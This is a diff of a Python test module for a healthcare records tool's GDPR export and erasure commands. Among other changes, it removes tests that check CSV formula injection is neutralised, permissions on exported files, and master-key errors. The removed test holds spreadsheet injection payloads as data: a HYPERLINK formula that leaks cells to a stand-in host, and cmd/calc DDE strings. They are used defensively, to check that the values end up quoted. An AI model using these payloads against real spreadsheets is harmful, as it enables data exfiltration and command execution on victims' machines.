@@ -1,5 +1,5 @@
-"""Right to portability and right to erasure, end to end on the embedded server; names that
-pick out no one, or several people, or that are part of other words."""
+"""A patient's records exported and erased everywhere: databases, reports, quarantine, staging;
+names refused when too short, matched whole, and a shared name erased only for the one picked."""
 
 import csv
 import json
@@ -11,31 +11,14 @@ import sys
 import pandas as pd
 from bson import json_util
 
-from healthcare_assets.domain import access, encryption, gdpr, master_keys, privacy
+from healthcare_assets.domain import access, encryption, gdpr, privacy
 from healthcare_assets.domain.audit import AUDIT_COLLECTION, ERASURES_COLLECTION
 from healthcare_assets.plumbing import settings
 from healthcare_assets_tests.fixtures.environment import REPO
-from healthcare_assets_tests.fixtures.runs import check_results, materialize, materialized
+from healthcare_assets_tests.fixtures.gdpr import cli, export_with_quarantined_row
+from healthcare_assets_tests.fixtures.runs import materialize, materialized
 
 SYSTEM_DATABASES = {"admin", "local", "config"}
-
-
-def cli(*args, mongo, data_dir):
-    env = {**os.environ, "MONGODB_DATABASE": mongo.database, "HEALTHCARE_DATA_DIR": str(data_dir)}
-    return subprocess.run([sys.executable, "-m", "healthcare_assets.tooling.cli", *args], check=False, env=env,
-                          capture_output=True, text=True, timeout=120)
-
-
-def export_with_quarantined_row(small_csv, path):
-    """The small export plus one more stay of patient #10 whose age is unreadable (quarantined)."""
-    with open(small_csv, newline="") as f:
-        rows = list(csv.reader(f))
-    patient = list(rows[10])
-    patient[1] = "unknown"
-    rows.append(patient)
-    with open(path, "w", newline="") as f:
-        csv.writer(f, lineterminator="\n").writerows(rows)
-    return rows[10]
 
 
 def mentions(mongo, data_dir, needles: set[str]) -> list[str]:
@@ -243,124 +226,3 @@ def test_a_shared_name_lists_its_patients_and_erases_only_the_one_picked(mongo, 
     # the run of this process is still in progress as far as anyone can tell: its folder stays
     assert (in_progress / "raw.parquet").exists() and not finished.exists()
     assert f"kept      1  {gdpr.KEPT}" in erased.stdout
-
-
-# ---- files a spreadsheet opens: quarantine cells that are formulas, written quoted ---------------
-
-LEAK = '=HYPERLINK("http://x.example?leak="&B3&C3,"x")'
-# (column -> raw cell) of rows that go to quarantine, each with the reason its first broken rule gives
-HOSTILE = [
-    ({"Name": LEAK, "Hospital": "+cmd|' /C calc'!A0", "Age": "@SUM(1+1)", "Billing Amount": "-1234.5"},
-     "Age: not a whole number (got '@SUM(1+1)')"),
-    ({"Name": "-2+3+cmd|' /C calc'!A0", "Hospital": "\t=1+1", "Billing Amount": "=1+1"},
-     "Billing Amount: not a number (got '=1+1')"),
-    ({"Doctor": "\r@x", "Medication": "-x"},
-     "Medication: not one of ['Aspirin', 'Ibuprofen', 'Lipitor', 'Paracetamol', 'Penicillin'] (got '-x')"),
-]
-
-
-def quarantine_cells(path) -> list[dict[str, str]]:
-    with open(path, newline="") as f:
-        return list(csv.DictReader(f))
-
-
-def test_quarantine_cells_a_spreadsheet_would_run_are_quoted_and_stay_quoted_after_an_erasure(
-        mongo, data_dir, small_csv, tmp_path):
-    source = tmp_path / "hostile.csv"
-    patient = export_with_quarantined_row(small_csv, source)  # a patient with a quarantined row, to erase
-    with open(source, newline="") as f:
-        header, *rows = list(csv.reader(f))
-    for n, (cells, _) in enumerate(HOSTILE):
-        rows.append([cells.get(column, value) for column, value in zip(header, rows[20 + n], strict=True)])
-    with open(source, "w", newline="") as f:
-        csv.writer(f).writerows([header, *rows])  # CRLF, so that the cell holding a CR is quoted
-    first_hostile_line = len(rows) - len(HOSTILE) + 2  # the header is line 1
-    result = materialize(source, mongo)
-    assert result.success, [check for check, passed in check_results(result).items() if not passed]
-    path = materialized(result)["cleaned_frame"]["quarantine_file"]
-
-    def assert_neutralized(found):
-        hostile = {int(r["line_number"]): r for r in found if int(r["line_number"]) >= first_hostile_line}
-        assert sorted(hostile) == [first_hostile_line + n for n in range(len(HOSTILE))]
-        for n, (cells, reason) in enumerate(HOSTILE):
-            row = hostile[first_hostile_line + n]
-            assert row["reason"] == reason  # intact: it starts with a column's name
-            for column, raw in cells.items():
-                expected = raw if column == "Billing Amount" and raw == "-1234.5" else "'" + raw  # a number stays
-                assert row[column] == expected, (column, row[column])
-
-    written = quarantine_cells(path)
-    assert len(written) == 1 + len(HOSTILE)
-    assert_neutralized(written)
-
-    # a quarantine file an older version wrote, cells verbatim: erasure rewrites it neutralized
-    with open(path, "w", newline="") as f:
-        verbatim = csv.DictWriter(f, fieldnames=list(written[0]))  # CRLF: the cell with a CR quoted
-        verbatim.writeheader()
-        verbatim.writerows([{k: v.removeprefix("'") for k, v in row.items()} for row in written])
-    erased = cli("erase-patient", "--name", patient[0], "--gender", patient[2], "--blood-type", patient[3], "--all",
-                 "--yes", mongo=mongo, data_dir=data_dir)
-    assert erased.returncode == 0, erased.stderr
-    assert "removed      1  quarantine_rows" in erased.stdout
-    rewritten = quarantine_cells(path)
-    assert len(rewritten) == len(HOSTILE)
-    assert_neutralized(rewritten)
-
-    # a patient whose name is a formula is found in quarantine as the source named them, and erased
-    leaked = rows[-len(HOSTILE)]
-    erased = cli("erase-patient", f"--name={LEAK}", "--gender", leaked[header.index("Gender")], "--blood-type",
-                 leaked[header.index("Blood Type")], "--all", "--yes", mongo=mongo, data_dir=data_dir)
-    assert erased.returncode == 0, erased.stderr
-    assert "removed      1  quarantine_rows" in erased.stdout, erased.stdout
-    assert len(quarantine_cells(path)) == len(HOSTILE) - 1
-
-
-# ---- export-patient: decrypted records, in a new file only its owner can read ---------------------
-
-def test_export_is_a_new_owner_only_file_and_never_replaces_one(mongo, data_dir, small_csv, tmp_path):
-    with open(small_csv, newline="") as f:
-        name = gdpr.normalized(list(csv.reader(f))[10][0])
-    assert materialize(small_csv, mongo).success
-    old = os.umask(0o022)  # the common default: the file would be 0644 unless the code decides
-    try:
-        out = tmp_path / "patient.json"
-        result = cli("export-patient", "--name", name, "--all", "--out", str(out), mongo=mongo, data_dir=data_dir)
-        assert result.returncode == 0, result.stderr
-        assert oct(os.stat(out).st_mode & 0o777) == "0o600"
-        assert json_util.loads(out.read_text())["records"]
-
-        # an existing file is not overwritten, a symlink not followed (its target untouched)
-        before = out.read_bytes()
-        target = tmp_path / "someone-elses.txt"
-        target.write_text("not yours\n")
-        target.chmod(0o644)
-        link = tmp_path / "link.json"
-        link.symlink_to(target)
-        dangling = tmp_path / "dangling.json"
-        dangling.symlink_to(tmp_path / "not-there-yet.json")
-        for path in (out, link, dangling):
-            refused = cli("export-patient", "--name", name, "--all", "--out", str(path), mongo=mongo, data_dir=data_dir)
-            assert refused.returncode == 8, (path, refused.stdout, refused.stderr)
-            assert f"{path}: already exists" in refused.stderr and "Traceback" not in refused.stderr, refused.stderr
-        assert out.read_bytes() == before
-        assert target.read_text() == "not yours\n" and oct(target.stat().st_mode & 0o777) == "0o644"
-        assert not (tmp_path / "not-there-yet.json").exists()
-    finally:
-        os.umask(old)
-
-
-def test_an_export_without_the_master_key_says_which_key_to_bring(mongo, data_dir, small_csv):
-    """A host holding another master key than the one wrapping the data keys (a restore onto a new
-    host, a lost variable): the command names the missing key by digest, with no traceback."""
-    with open(small_csv, newline="") as f:
-        name = gdpr.normalized(list(csv.reader(f))[10][0])
-    assert materialize(small_csv, mongo).success
-    wrapping = master_keys.local_provider(master_keys.master_key())
-    env = {**os.environ, "MONGODB_DATABASE": mongo.database, "HEALTHCARE_DATA_DIR": str(data_dir),
-           master_keys.MASTER_KEY_VARIABLE: master_keys.new_master_key()}
-    result = subprocess.run([sys.executable, "-m", "healthcare_assets.tooling.cli", "export-patient", "--name", name,
-                             "--all", "--out", str(data_dir / "export.json")], check=False, env=env,
-                            capture_output=True, text=True, timeout=120)
-    assert result.returncode == 9, (result.stdout, result.stderr)
-    assert wrapping in result.stderr and "HEALTHCARE_MASTER_KEY" in result.stderr
-    assert "Traceback" not in result.stderr and not (data_dir / "export.json").exists()
